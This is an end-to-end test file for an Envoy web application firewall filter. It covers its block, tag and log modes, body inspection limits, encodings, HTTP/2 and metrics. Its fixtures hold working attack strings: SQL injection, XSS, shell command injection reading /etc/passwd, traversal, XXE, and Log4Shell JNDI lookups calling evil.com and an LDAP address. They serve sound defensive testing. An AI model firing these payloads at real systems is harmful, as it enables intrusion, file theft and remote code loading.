// e2e: the wafscore filter in real Envoy, one stack per mode: block answers 403 with a JSON body,
// tag sends score headers upstream, log only logs; configuration, exclusions, partial inspection,
// HTTP/2 with trailers, metrics, and the Node core scoring exactly as the filter does.
import http from "node:http";
import http2 from "node:http2";
import { gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type Core, loadCore } from "../support/core";
import type { CoreRequest } from "../../node/core";
import { type Echo, type Stack, startEnvoyExpectFailure, startStack, tail } from "./harness";

// ---- clients ------------------------------------------------------------------

interface Reply { status: number; headers: http.IncomingHttpHeaders; text: string }

const CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

/** HTTP/1.1 with exactly the headers given (plus host, content-length and connection). */
function send(base: string, path: string, opts: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {}): Promise<Reply> {
  const url = new URL(base);
  const body = opts.body === undefined ? undefined : Buffer.from(opts.body);
  const headers: Record<string, string | number> = { "user-agent": CHROME, ...opts.headers };
  if (body) headers["content-length"] = body.length;
  return new Promise((resolve, reject) => {
    const req = http.request({ host: url.hostname, port: url.port, path, method: opts.method ?? (body ? "POST" : "GET"), headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode!, headers: res.headers, text: Buffer.concat(chunks).toString("utf8") }));
      res.on("error", reject);
    });
    req.setTimeout(10_000, () => req.destroy(new Error(`timeout: ${path}`)));
    req.on("error", reject);
    req.end(body);
  });
}

/** HTTP/2 cleartext with prior knowledge: a POST whose body is followed by trailers. */
function sendH2WithTrailers(base: string, path: string, headers: Record<string, string>, body: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const client = http2.connect(base);
    client.on("error", reject);
    const req = client.request({ ":method": "POST", ":path": path, "user-agent": CHROME, ...headers }, { waitForTrailers: true });
    req.on("wantTrailers", () => req.sendTrailers({ "x-checksum": "c0ffee" }));
    let status = 0;
    const chunks: Buffer[] = [];
    req.on("response", (h) => { status = Number(h[":status"]); });
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("close", () => { client.close(); resolve({ status, text: Buffer.concat(chunks).toString("utf8") }); });
    req.on("error", (e) => { client.close(); if (status) resolve({ status, text: Buffer.concat(chunks).toString("utf8") }); else reject(e); });
    req.setTimeout(10_000, () => req.close(http2.constants.NGHTTP2_CANCEL));
    req.end(body);
  });
}

const echoOf = (r: Reply) => JSON.parse(r.text) as Echo;
const wafHeaders = (e: Echo) => Object.fromEntries(Object.entries(e.headers).filter(([k]) => k.startsWith("x-waf-")));
const score = (e: Echo, name: string) => Number(e.headers[`x-waf-${name}`]);

/** One stack for a describe block: started before its tests, logs printed on a failure, always stopped. */
function useStack(pluginConfig: object | string): () => Stack {
  let stack: Stack | undefined;
  beforeAll(async () => {
    stack = await startStack({ pluginConfig });
  });
  afterEach((ctx) => {
    if (ctx.task.result?.state === "fail" && stack) console.error(`--- envoy log (${JSON.stringify(pluginConfig)}) ---\n${tail(stack.logs(), 200)}`);
  });
  afterAll(async () => {
    await stack?.stop();
  });
  return () => stack!;
}

// ---- the attacks every mode sees ------------------------------------------------

interface AttackReq { name: string; path: string; headers?: Record<string, string>; body?: string; cls: string; part: string }
const ATTACKS: AttackReq[] = [
  { name: "SQLi in a query", path: "/search?id=1%27%20OR%20%271%27%3D%271", cls: "sqli", part: "query:id" },
  {
    name: "XSS in a JSON body", path: "/api/comments", headers: { "content-type": "application/json" },
    body: '{"post":42,"comment":"<img src=x onerror=alert(1)>"}', cls: "xss", part: "body:json:comment",
  },
  {
    name: "command injection in a form body", path: "/tools/ping", headers: { "content-type": "application/x-www-form-urlencoded" },
    body: "count=3&host=%3Bcat%20%2Fetc%2Fpasswd", cls: "rce", part: "body:form:host",
  },
  {
    name: "prototype pollution in a JSON body (a signature)", path: "/api/profile", headers: { "content-type": "application/json" },
    body: '{"name":"ann","__proto__":{"isAdmin":true}}', cls: "rce", part: "body:json:__proto__",
  },
  {
    name: "a deserialization gadget as a JSON type (a signature)", path: "/api/import", headers: { "content-type": "application/json" },
    body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/x","autoCommit":true}', cls: "rce", part: "body:json:@type",
  },
  {
    name: "mail command injection in a form body (a signature)", path: "/contact", headers: { "content-type": "application/x-www-form-urlencoded" },
    body: "email=ann%40example.com%0ABcc%3Aall%40example.net&message=hello", cls: "crlf", part: "body:form:email",
  },
  { name: "Log4Shell in a header, its name spelled by lookups (a payload verdict)", path: "/", headers: { "x-api-version": "${${lower:j}ndi:ldap://198.51.100.7/a}" }, cls: "jndi", part: "header:x-api-version" },
  { name: "an OS file as a query value (a payload verdict)", path: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", cls: "traversal", part: "query:file" },
];
// 4 KiB of benign form body, over the stacks' max_body_bytes of 1024.
const LONG_BENIGN_FORM = `comment=${"All good here, thanks for the fast shipping. ".repeat(100)}`.slice(0, 4096);

const attack = (s: Stack, a: AttackReq) => send(s.url, a.path, { headers: a.headers, body: a.body });

// The filter's log line for a flagged request: "flagged action=<a> request_id=<id> score=<n> class=<c> ... part=<where>:<name> ..."
function flaggedLine(logs: string, action: string, requestId?: string): string | undefined {
  return logs.split("\n").find((l) => l.includes(`flagged action=${action}`) && (!requestId || l.includes(`request_id=${requestId} `)));
}

/** The class of a 403, from the flagged line of its request id (the body has the id only). */
async function blockedClass(stack: Stack, r: Reply): Promise<string | undefined> {
  const rid = (JSON.parse(r.text) as { request_id: string }).request_id;
  await expect.poll(() => flaggedLine(stack.logs(), "block", rid)).toBeDefined();
  return / class=(\S+)/.exec(flaggedLine(stack.logs(), "block", rid)!)?.[1];
}

// ---- block ----------------------------------------------------------------------

describe("block mode", () => {
  const stack = useStack({ mode: "block", max_body_bytes: 1024, exclude_paths: ["/static/"], exclude_params: ["password"] });

  it("loads the plugin and logs its configuration", () => {
    expect(stack().logs()).toContain("configured: mode block, threshold 20, max_body_bytes 1024");
  });

  it("passes a benign GET with the four score headers, all above 20", async () => {
    const r = await send(stack().url, "/products?q=running+shoes&page=2", { headers: { referer: "https://www.example.com/" } });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.path).toBe("/products?q=running+shoes&page=2");
    for (const h of ["attack-score", "sqli-score", "xss-score", "rce-score"]) expect(score(e, h), h).toBeGreaterThan(20);
    expect(e.headers["x-waf-inspection"]).toBeUndefined();
  });

  it.each([
    { name: "form", ct: "application/x-www-form-urlencoded", body: "first=Sean&last=O%27Brien&comment=Please+select+express+delivery" },
    { name: "JSON", ct: "application/json", body: '{"order":{"items":[{"sku":"AB-123","qty":2}],"note":"union station pickup"}}' },
  ])("passes a benign $name POST with the body intact and scores above 20", async ({ ct, body }) => {
    const r = await send(stack().url, "/checkout", { headers: { "content-type": ct }, body });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.body).toBe(body);
    for (const h of ["attack-score", "sqli-score", "xss-score", "rce-score"]) expect(score(e, h), h).toBeGreaterThan(20);
  });

  it.each(ATTACKS)("answers $name with 403 and a JSON verdict, and logs the part", async (a) => {
    const r = await attack(stack(), a);
    expect(r.status).toBe(403);
    expect(r.headers["content-type"]).toBe("application/json");
    // The request id only: the score and class would tell an attacker how close an evasion came.
    const v = JSON.parse(r.text) as { error: string; request_id: string };
    expect(Object.keys(v)).toEqual(["error", "request_id"]);
    expect(v.error).toBe("request blocked");
    expect(v.request_id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/); // Envoy's generated UUID
    // The id in the body is the x-request-id Envoy generated: the log line carries the same one.
    await expect.poll(() => flaggedLine(stack().logs(), "block", v.request_id)).toBeDefined();
    const line = flaggedLine(stack().logs(), "block", v.request_id)!;
    const score = Number(/ score=(\d+) /.exec(line)?.[1]);
    expect(Number.isInteger(score) && score >= 1 && score <= 20, line).toBe(true);
    expect(line).toContain(`score=${score} class=${a.cls}`);
    expect(line).toContain(` part=${a.part} `);
    // The fragments that drove the score, quoted: explain="..." (up to three, comma-separated).
    expect(line).toMatch(/ explain="[^"]+"/);
  });

  it("skips scoring under exclude_paths: an attack passes with no score headers", async () => {
    const r = await send(stack().url, "/static/app.js?id=1%27%20OR%20%271%27%3D%271");
    expect(r.status).toBe(200);
    expect(wafHeaders(echoOf(r))).toEqual({});
  });

  it("exclude_paths is a prefix of the path: /staticx is scored", async () => {
    const r = await send(stack().url, "/staticx?id=1%27%20OR%20%271%27%3D%271");
    expect(r.status).toBe(403);
  });

  it("does not score exclude_params: a password of ' or 1=1-- passes", async () => {
    const body = "user=alice&password=%27%20or%201%3D1--";
    const r = await send(stack().url, "/login", { headers: { "content-type": "application/x-www-form-urlencoded" }, body });
    expect(r.status).toBe(200);
    expect(score(echoOf(r), "attack-score")).toBeGreaterThan(20);
  });

  it("passes a body over max_body_bytes tagged x-waf-inspection: partial", async () => {
    const body = LONG_BENIGN_FORM;
    const r = await send(stack().url, "/review", { headers: { "content-type": "application/x-www-form-urlencoded" }, body });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.body_bytes).toBe(4096);
    expect(e.headers["x-waf-inspection"]).toBe("partial");
    expect(score(e, "attack-score")).toBeGreaterThan(20);
  });

  it("scores the inspected prefix of a long body: an attack in the first KiB is blocked", async () => {
    const body = `q=1%27%20UNION%20SELECT%20password%20FROM%20users--&pad=${"x".repeat(4000)}`;
    const r = await send(stack().url, "/long", { headers: { "content-type": "application/x-www-form-urlencoded" }, body });
    expect(r.status).toBe(403);
    expect(await blockedClass(stack(), r)).toBe("sqli");
  });

  it("inflates a gzip-encoded body and scores it: a benign one passes intact, an attack is blocked", async () => {
    const body = gzipSync(Buffer.from('{"comment":"hello"}'));
    const r = await send(stack().url, "/api/gz", { headers: { "content-type": "application/json", "content-encoding": "gzip" }, body });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.body_bytes).toBe(body.length);
    expect(e.headers["x-waf-inspection"]).toBeUndefined();
    const attack = gzipSync(Buffer.from('{"q":"1\' UNION SELECT password FROM users--"}'));
    const b = await send(stack().url, "/api/gz", { headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: attack });
    expect(b.status).toBe(403);
    expect(await blockedClass(stack(), b)).toBe("sqli");
  });

  it("blocks a body in an encoding it cannot decode (on_undecodable: block, the default)", async () => {
    for (const enc of ["br", "x-unknown", "gzip, gzip"]) {
      const r = await send(stack().url, "/api/enc", { headers: { "content-type": "application/json", "content-encoding": enc }, body: '{"a":"b"}' });
      expect(r.status, enc).toBe(403);
      expect(await blockedClass(stack(), r), enc).toBe("undecodable");
    }
    const identity = await send(stack().url, "/api/enc", { headers: { "content-type": "application/json", "content-encoding": "identity, identity" }, body: '{"a":"b"}' });
    expect(identity.status).toBe(200);
  });

  it("blocks a body in a charset whose ASCII bytes are not ASCII (EBCDIC, UTF-7) as undecodable, and reads UTF-8 and Shift_JIS", async () => {
    // `id=1 or 1=1` in IBM037, as ASP.NET would decode it.
    const ebcdic = "%89%84%7E%F1%40%96%99%40%F1%7E%F1";
    for (const ct of ["application/x-www-form-urlencoded; charset=ibm037", "text/plain; charset=UTF-7"]) {
      const r = await send(stack().url, "/api/cs", { headers: { "content-type": ct }, body: ebcdic });
      expect(r.status, ct).toBe(403);
      expect(await blockedClass(stack(), r), ct).toBe("undecodable");
    }
    for (const ct of ["application/x-www-form-urlencoded; charset=UTF-8", "application/x-www-form-urlencoded; charset=Shift_JIS"]) {
      const r = await send(stack().url, "/api/cs", { headers: { "content-type": ct }, body: "first=Sean&last=Murphy" });
      expect(r.status, ct).toBe(200);
    }
  });

  it("scores an HTTP/2 (prior knowledge) POST with trailers: an attack in the body is blocked", async () => {
    const r = await sendH2WithTrailers(stack().url, "/h2/ping", { "content-type": "application/x-www-form-urlencoded" }, "host=%3Bcat%20%2Fetc%2Fpasswd");
    expect(r.status).toBe(403);
    expect(JSON.parse(r.text)).toMatchObject({ error: "request blocked" });
    expect(await blockedClass(stack(), { status: r.status, headers: {}, text: r.text })).toBe("rce");
  });

  it("passes a benign HTTP/2 POST with trailers, tagged, body intact", async () => {
    const body = "first=Sean&last=Murphy";
    const r = await sendH2WithTrailers(stack().url, "/h2/form", { "content-type": "application/x-www-form-urlencoded" }, body);
    expect(r.status).toBe(200);
    const e = JSON.parse(r.text) as Echo;
    expect(e.body).toBe(body);
    expect(score(e, "attack-score")).toBeGreaterThan(20);
  });

  it("counts blocked requests, per class, in the admin stats", async () => {
    const text = await (await fetch(`${stack().adminUrl}/stats?filter=wafscore`)).text();
    const stat = (name: string) => Number(new RegExp(`^wasmcustom\\.${name}: (\\d+)$`, "m").exec(text)?.[1] ?? NaN);
    expect(stat("wafscore_requests_blocked_total")).toBeGreaterThanOrEqual(5);
    expect(stat("wafscore_requests_scored_total")).toBeGreaterThan(stat("wafscore_requests_blocked_total"));
    expect(stat("wafscore_flagged_total.class.sqli.action.block")).toBeGreaterThanOrEqual(2);
    expect(stat("wafscore_flagged_total.class.xss.action.block")).toBeGreaterThanOrEqual(1);
    expect(stat("wafscore_flagged_total.class.rce.action.block")).toBeGreaterThanOrEqual(2);
    expect(stat("wafscore_requests_excluded_total")).toBeGreaterThanOrEqual(1);
    expect(stat("wafscore_body_truncated_total")).toBeGreaterThanOrEqual(2);
    expect(stat("wafscore_body_uninspectable_total")).toBeGreaterThanOrEqual(2);
    expect(stat("wafscore_body_undecodable_total")).toBeGreaterThanOrEqual(3);
    // The VM's linear memory, set at configure time: a few MiB of buffers and the model.
    expect(stat("wafscore_vm_memory_bytes")).toBeGreaterThan(1 << 20);
  });

  it("records the scoring time of each request in a histogram (µs)", async () => {
    // Envoy computes histogram quantiles at each stats flush (every 5 s by default).
    const deadline = Date.now() + 12_000;
    let line = "";
    while (Date.now() < deadline) {
      const text = await (await fetch(`${stack().adminUrl}/stats?filter=wafscore_scoring_time_us`)).text();
      line = text.split("\n").find((l) => l.startsWith("wasmcustom.wafscore_scoring_time_us:")) ?? "";
      if (line.includes("P50(")) break;
      await new Promise((r) => setTimeout(r, 250));
    }
    // P50(interval, cumulative): the cumulative median over every request this Envoy scored.
    const m = /P50\(([^,]+),([^)]+)\)/.exec(line);
    expect(m, line).not.toBeNull();
    const p50 = Number(m![2]);
    expect(p50).toBeGreaterThan(0);
    expect(p50).toBeLessThan(100_000);
  });
});

describe("max_body_bytes at its 1 MiB maximum", () => {
  const stack = useStack({ mode: "tag", max_body_bytes: 1048576 });

  // Envoy answers 413 once a buffered body passes the listener's per_connection_buffer_limit_bytes;
  // with the default 1 MiB, about half of these did. envoy.template.yaml sets 2 MiB. Ten tries,
  // as the failure depended on how the body's chunks happened to arrive.
  it("passes 2 MiB bodies (past max_body_bytes), tagged partial, never 413", async () => {
    const body = Buffer.alloc(2 << 20, "All good here, thanks for the fast shipping. ");
    for (let i = 0; i < 10; i++) {
      const r = await send(stack().url, "/big", { headers: { "content-type": "text/plain" }, body });
      expect(r.status).toBe(200);
      const e = echoOf(r);
      expect(e.body_bytes).toBe(2 << 20);
      expect(e.headers["x-waf-inspection"]).toBe("partial");
    }
  });

  it("passes a 1 MiB - 1 byte body, inspected whole", async () => {
    const body = Buffer.alloc((1 << 20) - 1, "All good here, thanks for the fast shipping. ");
    const r = await send(stack().url, "/big", { headers: { "content-type": "text/plain" }, body });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.body_bytes).toBe((1 << 20) - 1);
    expect(e.headers["x-waf-inspection"]).toBeUndefined();
  });
});

describe("block mode with on_uninspectable: block and block_response_details: true", () => {
  const stack = useStack({ mode: "block", max_body_bytes: 1024, on_uninspectable: "block", block_response_details: true });

  it("answers a body over max_body_bytes with 403, class uninspectable", async () => {
    // Benign prose (a long run of one letter is a known model weakness: KNOWN-DEVIATIONS model-fp-letter-run).
    const body = LONG_BENIGN_FORM;
    const r = await send(stack().url, "/review", { headers: { "content-type": "application/x-www-form-urlencoded" }, body });
    expect(r.status).toBe(403);
    const v = JSON.parse(r.text) as { score: number };
    expect(Object.keys(v)).toEqual(["error", "score", "class", "request_id"]);
    expect(v).toMatchObject({ error: "request blocked", class: "uninspectable" });
    await expect.poll(() => flaggedLine(stack().logs(), "block")).toContain("class=uninspectable");
  });

  it("answers a gzip body that inflates past max_body_bytes with 403, class uninspectable", async () => {
    const r = await send(stack().url, "/api/gz", { headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: gzipSync(JSON.stringify({ a: "b ".repeat(4096) })) });
    expect(r.status).toBe(403);
    expect(JSON.parse(r.text).class).toBe("uninspectable");
  });

  it("still passes a small benign body", async () => {
    const r = await send(stack().url, "/review", { headers: { "content-type": "application/x-www-form-urlencoded" }, body: "comment=nice" });
    expect(r.status).toBe(200);
  });
});

// ---- tag ------------------------------------------------------------------------

describe("tag mode", () => {
  const config = { mode: "tag", inspect_headers: ["x-api-key"] };
  const stack = useStack(config);

  it.each(ATTACKS)("passes $name upstream with an attack score of 20 or less", async (a) => {
    const r = await attack(stack(), a);
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(e.body).toBe(a.body ?? "");
    expect(score(e, "attack-score")).toBeLessThanOrEqual(20);
    // sqli, xss and rce have headers of their own (HEADER_CLASSES); crlf only the overall score.
    if (["sqli", "xss", "rce"].includes(a.cls)) expect(score(e, `${a.cls}-score`)).toBeLessThanOrEqual(20);
  });

  it("a client's own x-waf-* headers never reach upstream: the score there is the filter's", async () => {
    const a = ATTACKS[0];
    const r = await send(stack().url, a.path, { headers: { "x-waf-attack-score": "99", "x-waf-sqli-score": "99", "x-waf-verdict": "clean" } });
    expect(r.status).toBe(200);
    const e = echoOf(r);
    // One value each (repeated headers would be joined with ", "), and the attack's, not the client's 99.
    expect(e.headers["x-waf-attack-score"]).toMatch(/^\d+$/);
    expect(score(e, "attack-score")).toBeLessThanOrEqual(20);
    expect(score(e, "sqli-score")).toBeLessThanOrEqual(20);
    expect(e.headers["x-waf-verdict"]).toBeUndefined();
    const removed = async () => Number(/wafscore_spoofed_headers_removed_total: (\d+)/.exec(await (await fetch(`${stack().adminUrl}/stats?filter=wafscore_spoofed`)).text())?.[1]);
    await expect.poll(removed).toBeGreaterThanOrEqual(3);
  });

  it("tags a streamed 256 KiB multi-chunk POST once, partial, body intact", async () => {
    const url = new URL(stack().url);
    const e = await new Promise<Echo>((resolve, reject) => {
      const req = http.request({ host: url.hostname, port: url.port, path: "/upload", method: "POST", headers: { "user-agent": CHROME, "content-type": "text/plain" }, agent: false }, (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => resolve(JSON.parse(Buffer.concat(chunks).toString()) as Echo));
      });
      req.on("error", reject);
      const chunk = Buffer.alloc(4096, "z");
      for (let i = 0; i < 64; i++) req.write(chunk);
      req.end();
    });
    expect(e.body_bytes).toBe(64 * 4096);
    expect(e.headers["x-waf-attack-score"]).toMatch(/^\d+$/); // one value: repeated headers would be joined with ", "
    expect(e.headers["x-waf-inspection"]).toBe("partial");
  });

  // The filter and the Node core score a request the same: the filter walks :path (path, then
  // query), user-agent, referer, cookie and the inspect_headers, then the body by its type.
  // Scores are maxima over parts, so the order of parts does not change them.
  interface Req { name: string; path: string; headers?: Record<string, string>; body?: string; bodyWhere?: string }
  const FORM = { "content-type": "application/x-www-form-urlencoded" };
  const JSON_CT = { "content-type": "application/json" };
  const multipart = (fields: [string, string][]) =>
    `${fields.map(([n, v]) => `--XyZ\r\nContent-Disposition: form-data; name="${n}"\r\n\r\n${v}\r\n`).join("")}--XyZ--\r\n`;
  const MP = { "content-type": "multipart/form-data; boundary=XyZ" };
  const REQS: Req[] = [
    { name: "root", path: "/" },
    { name: "search with referer", path: "/search?q=running+shoes&page=2", headers: { referer: "https://www.example.com/products?color=red" } },
    { name: "SQLi query", path: "/search?id=1%27%20OR%20%271%27%3D%271" },
    { name: "cookies", path: "/products/42?ref=email&utm_source=newsletter", headers: { cookie: "_ga=GA1.2.1234567890.1700000000; session=3f7a9c2e1b4d8f6a; theme=dark" } },
    { name: "SQLi in a cookie", path: "/account", headers: { cookie: "session=abc; pref=' UNION SELECT password FROM users--" } },
    { name: "traversal in a path", path: "/files/..%2F..%2F..%2Fetc%2Fpasswd" },
    { name: "traversal in a query", path: "/download?name=..%2F..%2F..%2Fetc%2Fpasswd" },
    { name: "jndi in a query", path: "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D" },
    { name: "jndi in the user-agent", path: "/", headers: { "user-agent": "${jndi:ldap://evil.com/a}" } },
    { name: "curl with an API key", path: "/api/v1/items", headers: { "user-agent": "curl/8.5.0", "x-api-key": "k_live_3f7a9c2e1b4d8f6a" } },
    { name: "SQLi in an inspected header", path: "/api/v1/items", headers: { "x-api-key": "' OR 1=1--" } },
    { name: "XSS in the referer", path: "/", headers: { referer: "https://x.example/?q=<script>alert(1)</script>" } },
    { name: "benign form", path: "/login", headers: FORM, body: "user=alice&pass=hunter2&remember=on", bodyWhere: "body:form" },
    { name: "XSS form", path: "/comment", headers: FORM, body: "c=%3Csvg%20onload%3Dalert(1)%3E", bodyWhere: "body:form" },
    { name: "benign JSON", path: "/api/orders", headers: JSON_CT, body: '{"items":[{"sku":"AB-123","qty":2}],"note":"please select express delivery"}', bodyWhere: "body:json" },
    { name: "XSS JSON", path: "/api/comments", headers: JSON_CT, body: '{"comment":"<img src=x onerror=alert(1)>"}', bodyWhere: "body:json" },
    { name: "benign multipart", path: "/upload", headers: MP, body: multipart([["title", "Holiday photos"], ["album", "2024"]]), bodyWhere: "body:multipart" },
    { name: "rce multipart", path: "/upload", headers: MP, body: multipart([["title", "x"], ["cmd", ";cat /etc/passwd"]]), bodyWhere: "body:multipart" },
    { name: "benign XML", path: "/soap", headers: { "content-type": "application/xml" }, body: "<order><id>42</id><note>thanks</note></order>", bodyWhere: "body:xml" },
    { name: "XXE", path: "/soap", headers: { "content-type": "text/xml" }, body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', bodyWhere: "body:xml" },
    { name: "JSON without a content type (sniffed)", path: "/api", body: '{"name":"{{7*7}}"}', bodyWhere: "body:json" },
    { name: "text/plain prose (sniffed as a form)", path: "/notes", headers: { "content-type": "text/plain" }, body: "Hello, do you ship to Canada? Thanks!", bodyWhere: "body:form" },
    { name: "an octet-stream body is text", path: "/blob", headers: { "content-type": "application/octet-stream" }, body: "1 UNION SELECT 1,2,3--", bodyWhere: "body:text" },
  ];

  let core: Core;
  beforeAll(async () => {
    core = await loadCore();
    expect(core.configure(JSON.stringify(config))).toBeNull();
  });

  // The request as sent, in the core's form; Envoy adds headers of its own (x-request-id,
  // x-forwarded-proto ...), which the filter does not score by default.
  function asSent(r: Req): CoreRequest {
    const h = { "user-agent": CHROME, ...r.headers };
    return { head: [[":method", r.body ? "POST" : "GET"], [":path", r.path], ...Object.entries(h)], body: r.body };
  }

  it.each(REQS)("Node core and filter agree: $name", async (r) => {
    const res = await send(stack().url, r.path, { headers: r.headers, body: r.body });
    expect(res.status).toBe(200);
    const e = echoOf(res);
    const want = core.scoreRequest(asSent(r));
    expect({ attack: score(e, "attack-score"), sqli: score(e, "sqli-score"), xss: score(e, "xss-score"), rce: score(e, "rce-score") })
      .toEqual({ attack: want.score, sqli: want.classes.sqli, xss: want.classes.xss, rce: want.classes.rce });
  });

  it("the agreement cases include both clean and flagged requests", () => {
    const scores = REQS.map((r) => core.scoreRequest(asSent(r)).score);
    expect(scores.filter((s) => s <= 20).length).toBeGreaterThanOrEqual(8);
    expect(scores.filter((s) => s > 50).length).toBeGreaterThanOrEqual(6);
  });
});

// ---- log ------------------------------------------------------------------------

describe("log mode", () => {
  const stack = useStack({ mode: "log" });

  it.each(ATTACKS)("passes $name untouched, without score headers, and logs it", async (a) => {
    const r = await attack(stack(), a);
    expect(r.status).toBe(200);
    const e = echoOf(r);
    expect(wafHeaders(e)).toEqual({});
    expect(e.body).toBe(a.body ?? "");
    const rid = e.headers["x-request-id"];
    expect(rid).toMatch(/\S/);
    await expect.poll(() => flaggedLine(stack().logs(), "log", rid)).toBeDefined();
    expect(flaggedLine(stack().logs(), "log", rid)).toContain(`class=${a.cls}`);
  });

  it("does not log a benign request", async () => {
    const r = await send(stack().url, "/products?q=shoes");
    expect(r.status).toBe(200);
    const rid = echoOf(r).headers["x-request-id"];
    await new Promise((res) => setTimeout(res, 200));
    expect(flaggedLine(stack().logs(), "log", rid)).toBeUndefined();
  });
});

// ---- configuration --------------------------------------------------------------

describe("plugin configuration", () => {
  it("loads an empty and a 4 KiB configuration, two stacks side by side (SDK patch regression)", async () => {
    const big = { mode: "block", exclude_paths: Array.from({ length: 60 }, (_, i) => `/generated/prefix/${String(i).padStart(3, "0")}/${"p".repeat(44)}`) };
    expect(JSON.stringify(big).length).toBeGreaterThanOrEqual(4096);
    const stacks = await Promise.all([startStack({ pluginConfig: "" }), startStack({ pluginConfig: big })]);
    try {
      for (const s of stacks) {
        expect(s.logs()).toContain("configured: mode block, threshold 20");
        const r = await send(s.url, "/ok");
        expect(r.status).toBe(200);
        expect(score(echoOf(r), "attack-score")).toBeGreaterThan(20);
        expect((await attack(s, ATTACKS[0])).status).toBe(403);
      }
    } catch (e) {
      for (const s of stacks) console.error(`--- envoy log ---\n${tail(s.logs(), 100)}`);
      throw e;
    } finally {
      await Promise.all(stacks.map((s) => s.stop()));
    }
  });

  it("makes Envoy refuse an invalid configuration and name the field", async () => {
    const failure = await startEnvoyExpectFailure({ pluginConfig: { threshold: 500 } });
    expect(failure.exitCode).toBe(1);
    expect(failure.logs).toContain("invalid plugin configuration: config.threshold: must be an integer within [1,99], got 500");
    expect(failure.logs).toContain("Unable to create Wasm plugin wafscore");
  });

  it("startStack rejects at once, with Envoy's log, when the plugin is refused", async () => {
    await expect(startStack({ pluginConfig: "not json" })).rejects.toThrow(
      /Envoy exited \(code 1[\s\S]*config\.\(root\): must be a JSON object[\s\S]*Unable to create Wasm plugin wafscore/,
    );
  });
});
